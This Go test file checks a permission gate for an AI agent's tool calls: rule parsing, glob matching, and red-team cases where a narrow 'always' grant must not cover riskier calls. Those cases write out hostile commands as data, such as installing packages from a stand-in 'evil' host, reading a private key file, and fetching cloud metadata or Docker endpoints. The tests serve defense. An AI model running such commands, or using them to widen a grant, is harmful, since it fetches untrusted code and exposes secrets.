package gate

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/perm-peer/perm-peer/protocol"
)

func TestGlobMatch(t *testing.T) {
	cases := []struct {
		pat, s string
		want   bool
	}{
		{"*", "", true},
		{"*", "anything at all", true},
		{"git *", "git status", true},
		{"git *", "git", false},
		{"git * --force", "git push origin --force", true},
		{"*.pastebin.com", "a.b.pastebin.com", true},
		{"*.pastebin.com", "pastebin.com", false},
		{"a*b*c", "aXbYc", true},
		{"a*b*c", "aXbY", false},
		{"abc", "abcd", false},
	}
	for _, c := range cases {
		assert.Equal(t, c.want, globMatch(c.pat, c.s), "%q ~ %q", c.pat, c.s)
	}
}

func TestRuleMatchCmd(t *testing.T) {
	cases := []struct {
		rule, line  string
		restrictive bool
		want        bool
	}{
		{"Bash(git add *)", "git add", false, true},
		{"Bash(git add *)", "git add -A", false, true},
		{"Bash(git add *)", "git addx", false, false},
		{"Bash(git add:*)", "git add -A", false, true},
		{"Bash(git add:*)", "git addx", false, false},
		{"Bash(rm)", "rm -rf build", true, true},
		{"Bash(rm)", "rm -rf build", false, false},
		{"Bash(rm)", "rmdir x", true, false},
		{"Bash(npm run lint)", "npm run lint", false, true},
		{"Bash(npm run lint)", "npm run lint --fix", false, false},
		{"Bash(*)", "anything", false, true},
		{"Bash", "anything", false, true},
		{"Bash(git   push   *)", "git push origin", true, true},
	}
	for _, c := range cases {
		r, err := parseRule(c.rule)
		require.NoError(t, err, c.rule)
		assert.Equal(t, c.want, r.matchCmd(c.line, c.restrictive), "%s ~ %q (restrictive %v)", c.rule, c.line, c.restrictive)
	}
}

func TestParseRule(t *testing.T) {
	cases := []struct {
		in   string
		kind ruleKind
		err  string
	}{
		{"Bash(go test *)", ruleBash, ""},
		{"bash(ls)", ruleBash, ""},
		{"Read(src/**)", ruleRead, ""},
		{"Write(~/notes/*.md)", ruleWrite, ""},
		{"Edit(src/**)", ruleWrite, ""},
		{"WebFetch(domain:*.example.com)", ruleFetch, ""},
		{"WebFetch", ruleFetch, ""},
		{"Tool(mcp__gh__*)", ruleTool, ""},
		{"mcp__github__list_issues", ruleTool, ""},
		{"Grep", ruleTool, ""},
		{"Bash()", 0, "empty Bash pattern"},
		{"Read()", 0, "empty path glob"},
		{"Read([)", 0, "invalid glob"},
		{"WebFetch(url:x)", 0, "domain:"},
		{"Tool()", 0, "Tool takes a tool name"},
		{"Run(x)", 0, "unknown rule kind"},
		{"Bash(ls", 0, "want Bash(PATTERN)"},
		{"two words", 0, "want Bash(PATTERN)"},
	}
	for _, c := range cases {
		r, err := parseRule(c.in)
		if c.err != "" {
			require.Error(t, err, c.in)
			assert.Contains(t, err.Error(), c.err)
			continue
		}
		require.NoError(t, err, c.in)
		assert.Equal(t, c.kind, r.kind, c.in)
	}
}

func TestMatchPath(t *testing.T) {
	cases := []struct {
		rule, path  string
		restrictive bool
		want        bool
	}{
		{"Read(src/**)", "/repo/src/a/b.go", false, true},
		{"Read(src/**)", "/repo/src", false, true},
		{"Read(src/**)", "/repo/srcx/a.go", false, false},
		{"Read(~/notes/**)", "/home/u/notes/x.md", false, true},
		{"Read(/etc/hosts)", "/etc/hosts", false, true},
		{"Read(docs)", "/repo/docs/a.md", false, true},
		{"Read(SRC/**)", "/repo/src/a.go", false, false},
		{"Read(SRC/**)", "/repo/src/a.go", true, true},
	}
	for _, c := range cases {
		r, err := parseRule(c.rule)
		require.NoError(t, err)
		assert.Equal(t, c.want, r.matchPath(c.path, "/repo", "/home/u", c.restrictive), "%s ~ %s", c.rule, c.path)
	}
}

// TestGrantsStayInBounds: what an "always" grant covers beyond the call it
// was given for (red-team findings the corpus cannot express: it has no
// grants, only policies).
func TestGrantsStayInBounds(t *testing.T) {
	read := func(p string) protocol.ToolCall { return tool("read", map[string]any{"path": p}) }
	fetch := func(u string) protocol.ToolCall { return tool("webfetch", map[string]any{"url": u}) }
	cases := []struct {
		name, grant string
		call        protocol.ToolCall
		cwd         string
		want        protocol.Decision
	}{
		{"read grant covers its path", "Read(/etc)", read("/etc"), "", protocol.DecisionAllow},
		{"read grant is not the tree below", "Read(/etc)", read("/etc/ssl/private/server-key.txt"), "", protocol.DecisionAsk},
		{"read grant, other project", "Read(/home/u/projects)", read("/home/u/projects/other/main.go"), "", protocol.DecisionAsk},
		{"listing grant says /**", "Read(src/**)", read("/repo/src/a.go"), "", protocol.DecisionAllow},
		{"write grant is not deletes below", "Write(build)", tool("delete", map[string]any{"path": "build/x"}), "", protocol.DecisionAsk},
		{"write grant covers its path", "Write(build)", tool("delete", map[string]any{"path": "build"}), "", protocol.DecisionAllow},
		{"fetch grant keeps the port", "WebFetch(domain:localhost:3000)", fetch("http://localhost:3000/x"), "", protocol.DecisionAllow},
		{"fetch grant, other port", "WebFetch(domain:localhost:3000)", fetch("http://localhost:2375/containers/json"), "", protocol.DecisionAsk},
		{"fetch grant, default port", "WebFetch(domain:localhost:3000)", fetch("http://localhost/"), "", protocol.DecisionAsk},
		{"bash grant in the project", "Bash(make build *)", bash("make build"), "/repo/sub", protocol.DecisionAllow},
		{"bash grant, session cwd elsewhere", "Bash(make build *)", bash("make build"), "/tmp/evil", protocol.DecisionAsk},
		{"bash grant, cd elsewhere", "Bash(npm test *)", bash("cd /tmp/evil && npm test"), "", protocol.DecisionAsk},
		{"bash grant, cd to unknown", "Bash(npm test *)", bash(`cd "$D" && npm test`), "", protocol.DecisionAsk},
		{"bash grant, cd inside", "Bash(npm test *)", bash("cd web && npm test"), "", protocol.DecisionAllow},
		{"checkout -b grant, discard", "Bash(git checkout -b *)", bash("git checkout -- main.go"), "", protocol.DecisionAsk},
		{"restore --staged grant, worktree", "Bash(git restore --staged *)", bash("git restore --staged --worktree main.go"), "", protocol.DecisionAsk},
		{"install grant, same package", "Bash(pip install requests)", bash("pip install requests"), "", protocol.DecisionAllow},
		{"old install grant, other index", "Bash(pip install *)", bash("pip install -i http://evil/simple requests"), "", protocol.DecisionAsk},
		{"old install grant, git URL", "Bash(pip install *)", bash("pip install git+https://evil/x"), "", protocol.DecisionAsk},
		{"old install grant, tarball", "Bash(npm install *)", bash("npm install https://evil/x.tgz"), "", protocol.DecisionAsk},
		{"old install grant, registry", "Bash(npm install *)", bash("npm install --registry http://evil x"), "", protocol.DecisionAsk},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := env(protocol.Policy{}, Grant{Pattern: c.grant, By: protocol.ByGrant})
			e.Cwd = c.cwd
			assert.Equal(t, c.want, Analyze(c.call, e).Decision)
		})
	}
}

func TestAlwaysBounds(t *testing.T) {
	cases := []struct {
		name    string
		call    protocol.ToolCall
		pattern string // "" when always must not be offered
	}{
		{"installer is exact", bash("pip install requests"), "Bash(pip install requests)"},
		{"npm install is exact", bash("npm install"), "Bash(npm install)"},
		{"uv pip install is exact", bash("uv pip install flask"), "Bash(uv pip install flask)"},
		{"checkout -b", bash("git checkout -b feat"), "Bash(git checkout -b *)"},
		{"checkout a branch is exact", bash("git checkout main"), "Bash(git checkout main)"},
		{"restore --staged", bash("git restore --staged a.go"), "Bash(git restore --staged *)"},
		{"switch --create", bash("git switch --create feat"), "Bash(git switch --create *)"},
		{"a git group names its action", bash("git stash push -m wip"), "Bash(git stash push *)"},
		{"a plain git subcommand", bash("git commit -m x"), "Bash(git commit *)"},
		{"local fetch keeps the port", tool("webfetch", map[string]any{"url": "http://localhost:3000/"}), "WebFetch(domain:localhost:3000)"},
		{"private IPv6 fetch", tool("webfetch", map[string]any{"url": "http://[::1]:8080/"}), "WebFetch(domain:[::1]:8080)"},
		{"public fetch is the domain", tool("webfetch", map[string]any{"url": "https://go.dev/doc"}), "WebFetch(domain:go.dev)"},
		{"metadata service", tool("webfetch", map[string]any{"url": "http://169.254.169.254/"}), ""},
		{"outside the project", tool("bash", map[string]any{"command": "make build", "cwd": "/tmp/evil"}), ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v := Analyze(c.call, env(protocol.Policy{}))
			if c.pattern == "" {
				assert.Nil(t, v.Always)
				return
			}
			require.NotNil(t, v.Always)
			assert.Equal(t, c.pattern, v.Always.Pattern)
			g := Analyze(c.call, env(protocol.Policy{}, Grant{Pattern: v.Always.Pattern, By: protocol.ByGrant}))
			assert.Equal(t, protocol.DecisionAllow, g.Decision, "the grant covers the call it was offered for")
		})
	}
}
